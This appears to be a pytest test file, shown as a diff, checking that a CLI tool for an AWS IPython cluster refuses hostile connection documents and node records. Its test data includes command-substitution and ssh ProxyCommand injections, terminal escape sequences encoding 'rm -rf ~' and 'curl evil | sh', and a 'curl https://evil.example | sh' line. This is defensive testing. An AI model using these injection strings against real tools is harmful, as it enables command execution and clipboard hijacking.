@@ -1,0 +1,287 @@
+"""Hostile documents: what a process on a node could write where the laptop reads.
+
+Each case publishes a document (or a node record) to a real moto server, runs the
+real `ipfleet` command as a process with its own HOME, and asserts that it is
+refused with the field named, that no command ran (a marker file the payload would
+create stays absent), that nothing outside ipfleet's folders changed, and that no
+escape sequence reached the terminal.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import boto3
+import pytest
+
+from tests.conftest import PUBLIC_KEY
+from tests.test_connect import STACK, keypair, published
+
+ESC = "\x1b"
+
+
+def tree(root: Path) -> dict[str, bytes]:
+    """Every file under ROOT with its content (links as their target)."""
+    found = {}
+    for path in sorted(root.rglob("*")):
+        if path.is_symlink():
+            found[str(path)] = os.readlink(path).encode()
+        elif path.is_file():
+            found[str(path)] = path.read_bytes()
+    return found
+
+
+def run(aws_env: dict, home: Path, *args: str, timeout: float = 60) -> subprocess.CompletedProcess:
+    env = {**os.environ, **aws_env, "HOME": str(home), "NO_COLOR": "1"}
+    return subprocess.run(
+        [sys.executable, "-m", "ipfleet.cli", *args], capture_output=True, text=True, timeout=timeout, env=env
+    )
+
+
+def ssm(aws_env: dict):
+    return boto3.client("ssm", region_name="us-east-1", endpoint_url=aws_env["AWS_ENDPOINT_URL"])
+
+
+def publish(aws_env: dict, document) -> None:
+    value = document if isinstance(document, str) else json.dumps(document)
+    ssm(aws_env).put_parameter(Name=f"/ipfleet/{STACK}/connection", Value=value, Type="SecureString", Overwrite=True)
+
+
+def mark(home: Path) -> Path:
+    return home.parent / "PWNED"
+
+
+def payload(home: Path) -> str:
+    return f"$(touch {mark(home)})"
+
+
+def setting(path: str, value):
+    """A function that sets PATH (dotted) of a document to VALUE."""
+
+    def change(document: dict) -> None:
+        *parents, last = path.split(".")
+        target = document
+        for part in parents:
+            target = target[part]
+        target[last] = value
+
+    return change
+
+
+# (what is changed, the field the refusal names); {payload} is a command that leaves a mark.
+HOSTILE = [
+    ("controller.ssh.user", "ipfleet-admin\n    ProxyCommand {payload}", "controller.ssh.user"),
+    ("controller.ssh.user", "root -oProxyCommand={payload}", "controller.ssh.user"),
+    ("controller.instance_id", "i-0123456789abcdef0{payload}", "controller.instance_id"),
+    ("controller.instance_id", "`touch PWNED`", "controller.instance_id"),
+    ("controller.public_address", '203.0.113.9\nMatch exec "{payload}"', "controller.public_address"),
+    ("controller.address", "10.0.1.5 -oProxyCommand={payload}", "controller.address"),
+    (
+        "controller.ssh.host_keys",
+        ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostKey\n@cert-authority * ssh-rsa AAAA"],
+        "host_keys",
+    ),
+    ("controller.ssh.host_keys", ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostKey other-host"], "host_keys"),
+    ("controller.versions", {"python": "3.11\x1b]52;c;cm0gLXJmIH4=\x07"}, "controller.versions.python"),
+    ("controller.versions", {"python": "[link=file:///etc/passwd]3.11[/link]"}, "controller.versions.python"),
+    ("controller.access", "ssm\n", "access"),
+    ("client.pack", "os.system", "client.pack"),
+    ("client.unpack", "pickle.loads", "client.unpack"),
+    ("client.registration", "10109", "client.registration"),
+    ("client.registration", 99999, "client.registration"),
+    ("client.location", "evil.example.com", "client.location"),
+    ("client.interface", "ipc:///tmp/socket", "client.interface"),
+    ("client.signature_scheme", "hmac-md5", "client.signature_scheme"),
+    ("client.key", "k" * 5000, "client.key"),
+    ("published_at", "\x1b[2J\x1b[Hall good", "published_at"),
+    ("stack", "other", "stack"),
+    ("notebook", {"port": 8888, "token": "x\ny"}, "notebook.token"),
+]
+
+
+@pytest.mark.parametrize("path,value,field", HOSTILE, ids=[f"{case[0]}-{i}" for i, case in enumerate(HOSTILE)])
+def test_connect_refuses_a_hostile_document_and_runs_nothing(aws_env, tmp_path, path, value, field):
+    home = tmp_path / "home"
+    _, public = keypair(home / ".ssh")
+    (home / ".ssh" / "config").write_text("Host *\n    ServerAliveInterval 60\n")
+    document = published("ssm", public)
+    text = json.dumps(value).replace("{payload}", payload(home).replace('"', '\\"'))
+    setting(path, json.loads(text))(document)
+    publish(aws_env, document)
+    before = tree(home)
+
+    result = run(aws_env, home, "connect", STACK, "--region", "us-east-1", "--timeout", "5")
+
+    assert result.returncode == 1, result.stdout + result.stderr
+    assert field in result.stderr
+    assert "Traceback" not in result.stderr
+    assert ESC not in result.stdout + result.stderr
+    assert not mark(home).exists()
+    assert tree(home) == before  # not one file written, the user's ssh config untouched
+    assert not (Path(aws_env["IPYTHONDIR"]) / f"profile_ipfleet-{STACK}" / "security").exists()
+
+
+def test_the_client_file_is_built_from_checked_values_only(aws_env, tmp_path):
+    """Fields ipyparallel would act on (ssh, extra keys) never reach the laptop's file."""
+    home = tmp_path / "home"
+    _, public = keypair(home / ".ssh")
+    document = published("ssm", public)
+    document["client"].update(ssh="attacker@198.51.100.7", exec_lines=["import os"], packer="os.system")
+    publish(aws_env, document)
+    result = run(aws_env, home, "fetch", STACK, "--region", "us-east-1", "--timeout", "5", "--json")
+    assert result.returncode == 0, result.stderr
+    written = json.loads(Path(json.loads(result.stdout)["path"]).read_text())
+    assert written["ssh"] == ""
+    assert "exec_lines" not in written and "packer" not in written
+    assert written["pack"] == written["unpack"] == "json"
+
+
+def test_a_document_that_is_too_big_or_not_an_object_is_refused(aws_env, tmp_path):
+    home = tmp_path / "home"
+    home.mkdir()
+    for value, message in (("[1, 2]", "format 1 expected"), (json.dumps({"format": 1, "x": "y" * 9000}), "characters")):
+        publish(aws_env, value)
+        result = run(aws_env, home, "fetch", STACK, "--region", "us-east-1", "--timeout", "5")
+        assert result.returncode == 1 and message in result.stderr, result.stderr
+
+
+def controller_instance(aws_env: dict, stack: str = STACK) -> dict:
+    """A controller instance in moto's EC2, tagged as the program tags it."""
+    ec2 = boto3.client("ec2", region_name="us-east-1", endpoint_url=aws_env["AWS_ENDPOINT_URL"])
+    image = ec2.describe_images()["Images"][0]["ImageId"]
+    [instance] = ec2.run_instances(
+        ImageId=image,
+        MinCount=1,
+        MaxCount=1,
+        TagSpecifications=[
+            {
+                "ResourceType": "instance",
+                "Tags": [{"Key": "ipfleet:stack", "Value": stack}, {"Key": "ipfleet:role", "Value": "controller"}],
+            }
+        ],
+    )["Instances"]
+    return instance
+
+
+def test_the_published_controller_is_checked_against_ec2(aws_env, tmp_path):
+    """The controller role can rewrite the document, not EC2's view of its instance."""
+    home = tmp_path / "home"
+    _, public = keypair(home / ".ssh")
+    instance = controller_instance(aws_env)
+    genuine = published("ssm", public)
+    genuine["controller"].update(instance_id=instance["InstanceId"], address=instance["PrivateIpAddress"])
+    genuine["client"]["location"] = instance["PrivateIpAddress"]
+
+    publish(aws_env, genuine)
+    ok = run(aws_env, home, "connect", STACK, "--region", "us-east-1", "--timeout", "5", "--json")
+    assert ok.returncode == 0, ok.stderr
+    assert json.loads(ok.stdout)["warnings"] == []
+
+    for change, said in (
+        ({"instance_id": "i-0fedcba9876543210"}, "is not the stack's controller according to EC2"),
+        ({"address": "10.9.9.9"}, "is not " + instance["InstanceId"] + "'s private address"),
+    ):
+        forged = copy.deepcopy(genuine)
+        forged["controller"].update(change)
+        publish(aws_env, forged)
+        refused = run(aws_env, home, "connect", STACK, "--region", "us-east-1", "--timeout", "5")
+        assert refused.returncode == 1 and said in refused.stderr, refused.stderr
+
+
+def test_without_an_ec2_controller_connect_warns_that_it_could_not_confirm(aws_env, tmp_path):
+    home = tmp_path / "home"
+    _, public = keypair(home / ".ssh")
+    publish(aws_env, published("ssm", public))
+    result = run(aws_env, home, "connect", STACK, "--region", "us-east-1", "--timeout", "5")
+    assert result.returncode == 0, result.stderr
+    assert "could not be confirmed" in result.stderr
+
+
+def record(instance_id: str, role: str = "engine", **fields) -> str:
+    return json.dumps({"format": 1, "role": role, "instanceId": instance_id, "phase": "running", **fields})
+
+
+def test_a_forged_controller_record_does_not_stop_fetch(aws_env, tmp_path):
+    """An engine writes a 'failed controller' record with instructions: fetch, which
+    believes only the instance EC2 tags as the controller, keeps waiting instead."""
+    home = tmp_path / "home"
+    home.mkdir()
+    controller_instance(aws_env)
+    publish(aws_env, "pending")
+    forged = record(
+        "i-0badbadbadbadbad0",
+        role="controller",
+        phase="failed",
+        error={"step": "run: curl https://evil.example | sh", "exitCode": 1, "log": ["run: curl … | sh"]},
+    )
+    ssm(aws_env).put_parameter(Name=f"/ipfleet/{STACK}/nodes/i-0badbadbadbadbad0", Value=forged, Type="String")
+    result = run(aws_env, home, "fetch", STACK, "--region", "us-east-1", "--timeout", "4")
+    assert result.returncode == 1
+    assert "has not published connection info" in result.stderr
+    assert "curl" not in result.stderr
+
+
+def test_status_shows_what_nodes_wrote_as_inert_text(aws_env, tmp_path):
+    """Escape sequences (OSC 52 clipboard writes, OSC 8 links, cursor moves) and rich
+    markup in a record are shown as text; malformed records and records under another
+    node's name are named and left out."""
+    home = tmp_path / "home"
+    home.mkdir()
+    client = ssm(aws_env)
+    nodes = f"/ipfleet/{STACK}/nodes"
+    hostile_log = ["\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07copied", "\x1b[1A\x1b[2Kall good", "[red]markup[/red]"]
+    client.put_parameter(
+        Name=f"{nodes}/i-0aaaaaaaaaaaaaaa1",
+        Value=record(
+            "i-0aaaaaaaaaaaaaaa1", phase="failed", error={"step": "[link=https://x]s[/link]", "log": hostile_log}
+        ),
+        Type="String",
+    )
+    client.put_parameter(
+        Name=f"{nodes}/i-0aaaaaaaaaaaaaaa2", Value=record("i-0aaaaaaaaaaaaaaa2", engines="3"), Type="String"
+    )
+    client.put_parameter(Name=f"{nodes}/i-0aaaaaaaaaaaaaaa3", Value=record("i-0aaaaaaaaaaaaaaa4"), Type="String")
+    client.put_parameter(Name=f"{nodes}/i-0aaaaaaaaaaaaaaa5", Value="not json", Type="String")
+
+    result = run(aws_env, home, "status", STACK, "--region", "us-east-1")
+
+    assert result.returncode == 0, result.stderr
+    out = result.stdout + result.stderr
+    assert ESC not in out and "\x07" not in out
+    assert "[red]markup[/red]" in out  # shown, not interpreted
+    assert "[link=https://x]s[/link]" in out
+    assert "i-0aaaaaaaaaaaaaaa2: engines" in out  # wrong type: named, left out
+    assert "speaks for i-0aaaaaaaaaaaaaaa4, not for i-0aaaaaaaaaaaaaaa3" in out
+    assert "i-0aaaaaaaaaaaaaaa5: not JSON" in out
+    listed = json.loads(run(aws_env, home, "status", STACK, "--region", "us-east-1", "--json").stdout)
+    assert [n["instanceId"] for n in listed["nodes"]] == ["i-0aaaaaaaaaaaaaaa1"]
+    assert len(listed["ignored"]) == 3
+
+
+@pytest.mark.parametrize("name", ["--help", "-x", "../../etc", "a/b", "lab$(id)", ".hidden", "x" * 101])
+def test_deployed_stack_commands_refuse_names_that_are_not_stack_names(aws_env, tmp_path, monkeypatch, name):
+    from typer.testing import CliRunner
+
+    from ipfleet.cli import app
+
+    home = tmp_path / "home"
+    home.mkdir()
+    monkeypatch.setenv("HOME", str(home))
+    for command in ("fetch", "connect", "status", "scale", "notebook", "restart-engines"):
+        args = [command, "--", name] + (["1"] if command == "scale" else [])
+        result = CliRunner().invoke(app, args)
+        assert result.exit_code == 2, (command, result.output)
+        assert "is not a stack name" in result.output
+    assert tree(home) == {}
+
+
+def test_a_public_key_in_the_stack_file_is_only_two_fields_on_the_laptop():
+    from ipfleet.remote import SshLogin
+
+    login = SshLogin.model_validate({"user": "ipfleet-admin", "authorized_key": PUBLIC_KEY, "host_keys": []})
+    assert login.authorized_key == " ".join(PUBLIC_KEY.split()[:2])
